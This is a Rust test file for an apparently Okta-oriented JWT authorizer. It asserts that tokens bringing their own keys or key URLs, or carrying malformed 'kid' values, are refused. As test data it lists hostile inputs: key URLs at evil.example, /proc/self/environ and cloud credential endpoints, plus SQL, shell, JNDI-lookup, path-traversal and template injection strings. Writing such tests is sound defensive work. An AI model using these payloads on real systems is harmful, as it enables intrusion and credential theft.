//! Keys that a token brings or points to, and names of keys that try to be more.

use base64::{Engine, engine::general_purpose::STANDARD};
use okta_authorizer::token::Refusal;
use serde_json::{Value, json};

use crate::{
    table::{HEADER, Row, authorizer, authorizer_of, by, good, good_claims, hold, with},
    test_keys::{self, encode, jwks},
};

#[test]
pub fn a_key_that_the_token_brings_or_points_to_is_ignored() {
    let stranger = test_keys::attacker();
    let certificate = json!([STANDARD.encode(stranger.public_der())]);
    let brought: [(&str, Value, &str); 14] = [
        ("jwk", stranger.jwk(), "RFC 7515 §4.1.3; CVE-2018-0114, CVE-2026-27962"),
        ("jwk", stranger.named("main").jwk(), "RFC 7515 §4.1.3; CVE-2018-0114, CVE-2026-27962"),
        ("jwk", json!({ "kty": "oct", "kid": "main", "k": "AAAA" }), "RFC 7515 §4.1.3"),
        ("jwk", json!("null"), "RFC 7515 §4.1.3"),
        ("jku", json!("https://evil.example/keys"), "RFC 7515 §4.1.2; RFC 8725 §3.10"),
        ("jku", json!("https://example.okta.com.evil.example/oauth2/default/v1/keys"), "RFC 8725 §3.10"),
        ("jku", json!("https://example.okta.com@evil.example/v1/keys"), "RFC 8725 §3.10"),
        ("jku", json!("file:///proc/self/environ"), "RFC 8725 §3.10"),
        ("jku", json!("http://169.254.170.2/v2/credentials"), "RFC 8725 §3.10"),
        ("x5u", json!("https://evil.example/chain.pem"), "RFC 7515 §4.1.5; RFC 8725 §3.10"),
        ("x5c", certificate.clone(), "RFC 7515 §4.1.6"),
        ("x5c", json!("not even an array"), "RFC 7515 §4.1.6"),
        ("x5t", json!(encode([0; 20])), "RFC 7515 §4.1.7"),
        ("x5t#S256", json!(encode([0; 32])), "RFC 7515 §4.1.8"),
    ];
    let mut rows = Vec::new();
    for (member, value, source) in brought {
        for (kid, refusal) in [("main", Refusal::BadSignature), ("attacker", Refusal::UnknownKid)] {
            let bad = by(stranger, &json!({ "alg": "RS256", "kid": kid, member: value }));
            let twin = by(test_keys::main(), &json!({ "alg": "RS256", "kid": "main", member: value }));
            rows.push(Row::new(source, format!("{member}: {value}, kid {kid}"), bad, refusal, twin));
        }
        let nameless = by(stranger, &json!({ "alg": "RS256", member: value }));
        rows.push(Row::new(source, format!("{member}: {value}, no kid"), nameless, Refusal::BadKid, good()));
    }
    hold(&authorizer(), rows);
}

#[test]
pub fn a_kid_is_a_name_and_nothing_more() {
    let mut rows = Vec::new();
    for kid in ["null", r#""""#, "5", "0", "true", r#"["main"]"#, r#"{"main":1}"#] {
        let header = format!(r#"{{"alg":"RS256","kid":{kid}}}"#);
        rows.push(Row::header("RFC 7515 §4.1.4", header, Refusal::BadKid, HEADER));
    }
    for header in [r#"{"alg":"RS256"}"#, r#"{"alg":"RS256","Kid":"main"}"#, r#"{"alg":"RS256","KID":"main"}"#] {
        rows.push(Row::header("RFC 7515 §4.1.4", header, Refusal::BadKid, HEADER));
    }
    let long = "k".repeat(10_000);
    for kid in [
        "unknown",
        "Main",
        "MAIN",
        "main ",
        " main",
        "main\n",
        "main\0",
        "main\0x",
        "mai",
        "mainx",
        "ma\u{200b}in",
        "ｍain",
        "*",
        "%",
        "_ain",
        "m?in",
        ".*",
        "../main",
        "../../../../../../dev/null",
        "/dev/null",
        "/proc/sys/kernel/randomize_va_space",
        "file:///dev/null",
        "https://evil.example/key",
        "main' OR '1'='1",
        "x' UNION SELECT 'AAAA",
        "main\"; --",
        "$(id)",
        "|id",
        "${jndi:ldap://evil.example/x}",
        "{{7*7}}",
        "<script>",
        "JWKS#https://example.okta.com/oauth2/default/v1/keys",
        "__proto__",
        "constructor",
        "[object Object]",
        "undefined",
        "null",
        "0",
        &long,
    ] {
        let header = json!({ "alg": "RS256", "kid": kid }).to_string();
        rows.push(Row::header("RFC 8725 §3.10", header, Refusal::UnknownKid, HEADER));
    }
    rows.push(Row::header(
        "RFC 7515 §6: one key by its name",
        r#"{"alg":"RS256","kid":"second"}"#,
        Refusal::BadSignature,
        HEADER,
    ));
    let swapped = by(test_keys::second(), &json!({ "alg": "RS256", "kid": "main" }));
    rows.push(Row::new("RFC 7515 §6", "the second key called main", swapped, Refusal::BadSignature, good()));
    hold(&authorizer(), rows);
}

#[test]
pub fn a_key_of_the_set_that_is_not_for_rs256_signatures_verifies_nothing() {
    let jwk = |kid, members: Value| with(&test_keys::main().named(kid).jwk(), &members);
    let unusable = [
        ("enc", json!({ "use": "enc" }), "RFC 7517 §4.2"),
        ("use-list", json!({ "use": ["sig"] }), "RFC 7517 §4.2"),
        ("use-case", json!({ "use": "SIG" }), "RFC 7517 §4.2"),
        ("ops-encrypt", json!({ "key_ops": ["encrypt"] }), "RFC 7517 §4.3"),
        ("ops-sign", json!({ "key_ops": ["sign"] }), "RFC 7517 §4.3"),
        ("ops-none", json!({ "key_ops": [] }), "RFC 7517 §4.3"),
        ("ops-text", json!({ "key_ops": "verify" }), "RFC 7517 §4.3"),
        ("alg-ps256", json!({ "alg": "PS256" }), "RFC 7517 §4.4; RFC 8725 §3.1"),
        ("alg-rs512", json!({ "alg": "RS512" }), "RFC 7517 §4.4; RFC 8725 §3.1"),
        ("alg-hs256", json!({ "alg": "HS256" }), "RFC 7517 §4.4; RFC 8725 §3.1"),
        ("alg-none", json!({ "alg": "none" }), "RFC 7517 §4.4; RFC 8725 §3.2"),
        ("alg-oaep", json!({ "alg": "RSA-OAEP" }), "RFC 7517 §4.4"),
        ("kty-ec", json!({ "kty": "EC", "crv": "P-256" }), "RFC 7517 §4.1"),
        ("kty-oct", json!({ "kty": "oct", "k": "AAAA" }), "RFC 7517 §4.1"),
        ("kty-case", json!({ "kty": "rsa" }), "RFC 7517 §4.1: case-sensitive"),
        ("e-1", json!({ "e": "AQ" }), "RFC 8017 §3.1"),
        ("e-2", json!({ "e": "Ag" }), "RFC 8017 §3.1"),
        ("e-even", json!({ "e": "AQAA" }), "RFC 8017 §3.1"),
        ("e-large", json!({ "e": encode([0xff; 256]) }), "RFC 8017 §3.1"),
        ("n-1", json!({ "n": "AQ" }), "RFC 7518 §3.3: 2048 bits or more"),
        ("n-padded", json!({ "n": format!("{}==", encode(test_keys::main().modulus())) }), "RFC 7518 §2"),
        ("n-number", json!({ "n": 5 }), "RFC 7518 §6.3.1.1"),
    ];
    let mut published = vec![test_keys::main().jwk(), test_keys::second().named("rival").jwk()];
    published.extend(unusable.iter().map(|(kid, members, _)| jwk(kid, members.clone())));
    published.push(test_keys::main().named("rival").jwk());
    let of = |kid| by(test_keys::main(), &json!({ "alg": "RS256", "kid": kid }));
    let mut rows: Vec<_> = unusable
        .iter()
        .map(|(kid, members, source)| {
            Row::new(source, format!("{kid}: {members}"), of(kid), Refusal::UnknownKid, good())
        })
        .collect();
    for rival in [test_keys::main(), test_keys::second()] {
        let bad = by(rival, &json!({ "alg": "RS256", "kid": "rival" }));
        rows.push(Row::new("RFC 7517 §4.5", "two keys under one kid", bad, Refusal::UnknownKid, good()));
    }
    hold(&authorizer_of(&json!({ "keys": published }), &[]), rows);
}

#[test]
pub fn the_set_may_be_a_single_key_and_a_token_of_no_issuers_key_is_refused() {
    let only_second = authorizer_of(&jwks(&[test_keys::second()]), &[]);
    let twin = test_keys::second().token(&good_claims());
    let row = |name, bad, refusal| Row::new("RFC 7515 §5.2", name, bad, refusal, twin.clone());
    let rows = vec![
        row("a key that was withdrawn", good(), Refusal::UnknownKid),
        row(
            "its name, another's signature",
            test_keys::main().named("second").token(&good_claims()),
            Refusal::BadSignature,
        ),
    ];
    hold(&only_second, rows);
}
